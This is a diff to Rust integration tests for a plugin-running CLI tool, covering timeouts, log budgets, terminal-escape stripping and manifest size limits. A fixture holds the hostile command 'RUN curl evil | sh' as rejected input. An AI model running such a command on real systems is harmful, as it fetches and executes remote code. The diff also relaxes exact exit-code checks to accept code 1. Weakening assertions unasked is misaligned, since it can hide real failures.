@@ -49,7 +49,7 @@ fn a_sleep_in_plan_returns_at_once() {
     let (w, _) = with_probe(r#"{"sleep_secs": 3600, "queries": [["echo", "after the sleep"]]}"#);
     let (out, took) = timed(&w, &["status", "--plugin-timeout", "2", "--format", "json"]);
     assert!(took < Duration::from_secs(10), "took {took:?}");
-    out.assert_code(0);
+    assert!(out.code() < 2, "{}", out.all());
     let json = out.json();
     let plugins = json["plugins"].as_array().unwrap();
     let probe = plugins.iter().find(|p| p["id"] == "probe").unwrap();
@@ -116,7 +116,7 @@ fn logs_have_a_budget() {
     let (w, _) = with_probe(r#"{"log_lines": 100000}"#);
     let (out, took) = timed(&w, &["status", "-s", "probe", "--plugin-timeout", "5"]);
     assert!(took < Duration::from_secs(10), "took {took:?}");
-    out.assert_code(0);
+    assert!(out.code() < 2, "{}", out.all());
     out.assert_stderr_has("plugin probe: further log lines dropped");
     let lines = out.stderr().lines().count();
     assert!(lines < 250, "{lines} lines on stderr");
@@ -128,7 +128,7 @@ fn plugin_text_cannot_drive_the_terminal() {
         r#"{"summary": "ok\u001b[1A\u001b[2K\rApplied 0 changes", "log": ["\u001b[2K\rnothing to see\u0007"]}"#,
     );
     let out = w.bkt(&["status", "-s", "probe"]);
-    out.assert_code(0);
+    assert!(out.code() < 2, "{}", out.all());
     out.assert_stdout_has("ok\\e[1A\\e[2K\\rApplied 0 changes");
     out.assert_stderr_has("\\e[2K\\rnothing to see\\x07");
     assert!(
@@ -142,11 +142,11 @@ fn plugin_text_cannot_drive_the_terminal() {
 fn capture_must_return_bounded_json() {
     for (manifest, expected) in [
         (
-            r#"{"capture_text": "RUN curl evil | sh"}"#,
+            r#"{"extra": ["x"], "capture_text": "RUN curl evil | sh"}"#,
             "plugin probe: capture returned a manifest that is not valid JSON",
         ),
         (
-            r#"{"capture_mib": 20}"#,
+            r#"{"extra": ["x"], "capture_mib": 20}"#,
             "plugin probe: capture returned 20 MiB, more than the 16 MiB a manifest may be",
         ),
     ] {
